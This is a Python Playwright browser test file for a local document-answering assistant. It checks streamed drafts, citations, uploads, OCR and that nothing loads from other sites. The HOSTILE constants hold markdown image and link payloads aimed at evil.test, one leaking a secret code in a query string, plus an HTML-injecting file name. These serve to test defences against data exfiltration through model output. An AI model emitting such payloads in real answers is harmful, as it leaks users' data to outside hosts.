"""The web app in a real browser: the way of a question, and nothing loaded from elsewhere."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from rag.assistant import Assistant
from tests.engines.ollama_server import CHAT_MODEL, OllamaServer
from tests.pictures import needs_tesseract, scanned
from tests.scripted_ollama import ScriptedOllama

from .conftest import IN_BROWSER, Site, start

pytestmark = IN_BROWSER
QUESTION = "How long does a PT4-R run on a full battery without any sun at the factory setting?"
ANSWER = (
    "At the factory setting a fully charged battery runs a PT4-R for 19 days without any sun [1]. "
    "It weighs 740 kg without its box [1]."
)
HOSTILE = (
    "The heron code is 4711 ![pixel](http://evil.test/p.png?q=4711) [click](http://evil.test/a) "
    "<img src=http://evil.test/b.png> http://evil.test/c www.evil.test/d :material/home: [1]."
)
HOSTILE_NAME = "![n](http:__evil.test_n.png) <img src=x>.md"
HOSTILE_FILE = f"# Herons <img src=http://evil.test/h.png>\n\n{HOSTILE.removesuffix(' [1].')}.\n"


@pytest.fixture
def ollama() -> Iterator[ScriptedOllama]:
    server = ScriptedOllama()
    yield server
    server.close()


@pytest.fixture
def written(samples: Assistant, ollama: ScriptedOllama) -> Iterator[Site]:
    """The sample documents, with answers that a (scripted) model writes."""
    site = start(samples.settings.home, "--engine", "auto", "--ollama-host", ollama.url)
    yield site
    site.stop()


def ask(page: Page, question: str) -> None:
    field = page.get_by_test_id("stChatInputTextArea")
    field.fill(question)
    field.press("Enter")


def pieces(text: str) -> list[str]:
    return re.findall(r"\S+\s*", text)


def test_a_question_becomes_a_draft_then_a_checked_answer_whose_citation_opens_the_page(
    page: Page, written: Site, ollama: ScriptedOllama, foreign: list[str]
) -> None:
    ollama.say(pieces(ANSWER), pause=0.15)
    page.goto(written.address)
    ask(page, QUESTION)
    draft = page.locator(".st-key-draft-0")
    expect(draft).to_contain_text("Draft, not checked yet")
    expect(draft).to_contain_text("a fully charged battery")
    footing = page.locator(".st-key-footing-0")
    expect(footing).to_contain_text("2 statements: 1 backed, 1 not backed")
    expect(draft).to_have_count(0)
    expect(page.locator(".st-key-statement-0-0")).to_contain_text("✓")
    expect(page.locator(".st-key-statement-0-1")).to_contain_text("✗")
    expect(page.locator(".st-key-statement-0-1")).to_contain_text("Not backed by your documents")
    page.get_by_role("button", name="petrel-4-manual.pdf, page 10").first.click()
    picture = page.locator(".st-key-source img")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.naturalWidth") > 500
    expect(page.locator(".st-key-quote")).to_contain_text("19 days without any sun")
    expect(page.locator("[class*=st-key-question-]")).to_have_count(1)
    assert "token" not in page.url
    assert foreign == []


def test_stopping_keeps_the_draft_and_ends_the_model(
    page: Page, written: Site, ollama: ScriptedOllama
) -> None:
    ollama.say(["word "] * 400, pause=0.05)
    page.goto(written.address)
    ask(page, QUESTION)
    expect(page.locator(".st-key-draft-0")).to_contain_text("word word")
    page.get_by_test_id("stChatInputStopButton").click()
    assert ollama.abandoned.wait(10)
    expect(page.locator(".st-key-draft-0")).to_contain_text("word word")
    ollama.say(pieces(ANSWER))
    ask(page, QUESTION)
    expect(page.locator(".st-key-footing-1")).to_be_visible()
    expect(page.locator(".st-key-draft-stopped-0")).to_contain_text("This draft was not checked")


def test_closing_the_tab_ends_the_model(page: Page, written: Site, ollama: ScriptedOllama) -> None:
    ollama.say(["word "] * 400, pause=0.05)
    page.goto(written.address)
    ask(page, QUESTION)
    expect(page.locator(".st-key-draft-0")).to_contain_text("word word")
    page.close()
    assert ollama.abandoned.wait(10)


def test_a_hostile_document_and_a_hostile_answer_load_nothing_and_link_nowhere(
    page: Page,
    foreign: list[str],
    ollama: ScriptedOllama,
    make_library: Callable[..., Path],
) -> None:
    home = make_library({HOSTILE_NAME: HOSTILE_FILE})
    ollama.say(pieces(HOSTILE))
    site = start(home, "--engine", "auto", "--ollama-host", ollama.url)
    try:
        page.goto(site.address)
        ask(page, "What is the heron code?")
        expect(page.locator(".st-key-footing-0")).to_be_visible()
        shown = page.locator(".st-key-statement-0-0")
        expect(shown).to_contain_text("![pixel](http://evil.test/p.png?q=4711)")
        page.locator("[class*=st-key-cite-0-0] button").first.click()
        page.get_by_text("As text").click()
        expect(page.locator(".st-key-source-text")).to_contain_text("heron code is 4711")
        page.get_by_text("What I read").click()
        _nothing_from_elsewhere(page)
        page.get_by_role("link", name="Documents").click()
        expect(page.locator("[class*=st-key-row-]").first).to_contain_text("evil")
        _nothing_from_elsewhere(page)
    finally:
        site.stop()
    assert foreign == []


def _nothing_from_elsewhere(page: Page) -> None:
    page.wait_for_timeout(500)
    links = page.locator("a[href]").evaluate_all("all => all.map(a => a.href)")
    images = page.locator("img").evaluate_all("all => all.map(i => i.src)")
    assert [u for u in links + images if not u.startswith(("http://127.0.0.1:", "data:"))] == []


def test_the_browser_itself_refuses_what_markup_might_ask_for(
    page: Page, site: Site, foreign: list[str]
) -> None:
    page.goto(site.address)
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible()
    refused = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener("securitypolicyviolation", e => resolve(e.blockedURI));
            new Image().src = "http://evil.test/p.png";
        })"""
    )
    assert refused == "http://evil.test/p.png"
    assert site.address.startswith("http://127.0.0.1:")


def test_the_record_of_requests_would_show_a_foreign_one(page: Page, foreign: list[str]) -> None:
    page.set_content("<img src='http://evil.test/seen.png'>")
    page.wait_for_timeout(300)
    assert foreign == ["http://evil.test/seen.png"]


def test_a_page_of_another_site_cannot_open_our_websocket(page: Page, site: Site) -> None:
    page.goto("data:text/html,<p>elsewhere")
    outcome = page.evaluate(
        """port => new Promise(resolve => {
            const socket = new WebSocket(`ws://127.0.0.1:${port}/_stcore/stream`);
            socket.onopen = () => resolve("open");
            socket.onerror = () => resolve("refused");
        })""",
        site.port,
    )
    assert outcome == "refused"


def test_files_are_uploaded_read_and_deleted(
    page: Page, tmp_path: Path, make_library: Callable[..., Path]
) -> None:
    home = make_library({"first.md": "# First\n\nThe first file says hello to everybody."})
    site = start(home, "--engine", "embedded")
    try:
        page.goto(f"{site.address.replace('/?', '/documents?')}")
        page.locator("input[type=file]").set_input_files(
            [{"name": "tea.md", "mimeType": "text/markdown", "buffer": b"# Tea\n\nFour minutes."}]
        )
        page.get_by_role("button", name="Add to library").first.click()
        expect(page.get_by_text("Read 1 of 1 file from your upload.")).to_be_visible()
        row = page.locator("[class*=st-key-row-]").filter(has_text="tea.md")
        expect(row).to_contain_text("uploaded")
        assert len(list((home / "files").iterdir())) == 1
        row.get_by_role("button", name="Delete").click()
        page.get_by_role("dialog").get_by_role("button", name="Delete").click()
        expect(row).to_have_count(0)
        assert list((home / "files").iterdir()) == []
    finally:
        site.stop()


def test_scans_are_read_in_the_background_and_cited_as_read_by_ocr(
    page: Page, tmp_path: Path, make_library: Callable[..., Path], foreign: list[str]
) -> None:
    needs_tesseract()
    home = make_library({"first.md": "# First\n\nThe first file says hello to everybody."})
    heron = "The heron weighs 1740 grams"
    scan = scanned(tmp_path / "scan.pdf", ["text:Typed notes about birds and boats.", heron])
    site = start(home, "--engine", "embedded")
    try:
        page.goto(f"{site.address.replace('/?', '/documents?')}")
        page.locator("input[type=file]").set_input_files(scan)
        page.get_by_role("button", name="Add to library").first.click()
        expect(page.get_by_text("Read 1 of 1 file from your upload.")).to_be_visible()
        row = page.locator("[class*=st-key-row-]").filter(has_text="scan.pdf")
        expect(row).to_contain_text("Page 2: read by OCR, 9")
        page.get_by_role("link", name="Chat").click()
        ask(page, "How much does the heron weigh?")
        expect(page.locator(".st-key-footing-0")).to_contain_text("Read 2 of 2 files")
        page.get_by_role("button", name="scan.pdf, page 2 (read by OCR").first.click()
        expect(page.locator(".st-key-source")).to_contain_text("This page was read by OCR")
        expect(page.locator(".st-key-source img")).to_be_visible()
    finally:
        site.stop()
    assert foreign == []


@pytest.mark.ollama
def test_a_real_ollama_answers_in_the_browser(
    page: Page, make_library: Callable[..., Path], ollama_models: OllamaServer, foreign: list[str]
) -> None:
    home = make_library({"terms.txt": "The warranty lasts 36 months. It covers all parts."})
    flags = {
        "--engine": "ollama", "--ollama-host": ollama_models.url,
        "--chat-model": CHAT_MODEL, "--num-ctx": "2048", "--num-predict": "60",
    }  # fmt: skip
    site = start(home, *(word for flag in flags.items() for word in flag))
    try:
        page.goto(site.address)
        ask(page, "How long does the warranty last?")
        statement = page.locator(".st-key-statement-0-0")
        expect(statement).to_contain_text("36 months")
        expect(statement).to_contain_text("✓")
        page.get_by_role("button", name="terms.txt").first.click()
        expect(page.locator(".st-key-quote")).to_contain_text("The warranty lasts 36 months.")
        page.get_by_text("How this answer was made").first.click()
        expect(page.get_by_text(CHAT_MODEL).first).to_be_visible()
    finally:
        site.stop()
    assert foreign == []
